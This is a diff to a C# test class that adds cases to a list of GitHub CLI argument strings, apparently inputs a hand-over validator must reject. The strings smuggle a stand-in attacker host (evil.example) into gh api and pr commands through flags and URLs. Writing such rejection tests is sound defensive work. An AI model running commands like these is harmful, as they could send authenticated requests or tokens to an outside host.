@@ -50,6 +50,8 @@ public sealed class GhHandoverTests
     [InlineData("pr list --json title --jq [env]")]
     [InlineData("api --hostname evil.example user")]
     [InlineData("api https://evil.example/user")]
+    [InlineData("api --preview -f https://evil.example/user")]
+    [InlineData("api -p --header https://evil.example/user")]
     [InlineData("pr view 7 --repo https://evil.example/o/r")]
     [InlineData("pr view 7 -Revil.example/o/r")]
     [InlineData("repo view evil.example/o/r")]
